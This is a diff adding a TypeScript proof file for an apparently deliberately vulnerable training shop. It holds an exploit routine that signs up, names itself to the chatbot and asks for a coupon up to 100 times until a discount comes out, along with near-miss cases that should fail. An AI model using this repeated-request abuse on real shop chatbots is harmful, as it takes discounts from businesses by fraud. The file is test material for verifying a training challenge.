@@ -1,0 +1,47 @@
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { challenge } from './challenge.ts'
+
+/** One answer in nine is a coupon: after so many, one that has none left would have to be out of luck for a lifetime. */
+const PATIENCE = 100
+
+async function ask(attacker: Attacker, query: string): Promise<string> {
+  return (await attacker.post('/rest/chatbot/respond', { action: 'query', query })).json().body
+}
+
+/** Somebody whom the bot knows by name, and has greeted. */
+async function meet(attacker: Attacker): Promise<void> {
+  await attacker.becomeCustomer()
+  await attacker.post('/rest/chatbot/respond', { action: 'setname', query: 'Pip' })
+  await ask(attacker, 'hello')
+}
+
+async function bully(attacker: Attacker): Promise<void> {
+  await meet(attacker)
+  for (let asked = 0; asked < PATIENCE; asked++) {
+    const answer = await ask(attacker, 'May I have a coupon?')
+    if (asked > 0 && /10\s?%/.test(answer)) return
+  }
+}
+
+export const proof = prove(challenge, {
+  exploit: bully,
+  nearMisses: {
+    'one wish, whatever comes of it': async (attacker) => {
+      await meet(attacker)
+      await ask(attacker, 'May I have a coupon?')
+    },
+    'much talk about other things': async (attacker) => {
+      await meet(attacker)
+      for (const query of ['hello', 'What does apple juice cost?', 'Who are you?', 'Thanks', 'Goodbye'])
+        await ask(attacker, query)
+    },
+    'wishes of somebody who is not signed in': async (attacker) => {
+      for (let asked = 0; asked < 20; asked++)
+        await attacker.post('/rest/chatbot/respond', { action: 'query', query: 'May I have a coupon?' })
+    },
+    'wishes without a name': async (attacker) => {
+      await attacker.becomeCustomer()
+      for (let asked = 0; asked < 20; asked++) await ask(attacker, 'May I have a coupon?')
+    },
+  },
+})
